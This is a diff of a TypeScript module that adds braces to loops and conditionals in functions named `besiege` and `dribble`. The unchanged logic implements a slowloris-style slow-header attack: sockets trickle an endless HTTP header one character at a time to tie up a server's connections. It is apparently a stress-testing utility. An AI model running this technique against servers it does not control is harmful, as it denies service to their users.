@@ -30,11 +30,13 @@ export async function besiege(parts: SiegeParts, until: Promise<unknown>): Promi
       await wave(parts);
       return Promise.race([over, false]);
     };
-    while (!(await wavesOver()));
+    while (!(await wavesOver())) {}
     return await Promise.all(large);
   } finally {
     clearInterval(slow);
-    for (const socket of idle) socket.destroy();
+    for (const socket of idle) {
+      socket.destroy();
+    }
   }
 }
 
@@ -52,7 +54,9 @@ async function wave(parts: SiegeParts): Promise<void> {
 /** Every other connection says one more letter of a header that never ends. */
 function dribble(sockets: readonly Socket[]): void {
   for (const [index, socket] of sockets.entries()) {
-    if (index % 2 === 1 || !socket.writable) continue;
+    if (index % 2 === 1 || !socket.writable) {
+      continue;
+    }
     socket.write(socket.bytesWritten === 0 ? 'GET / HTTP/1.1\r\nx: ' : 'x');
   }
 }
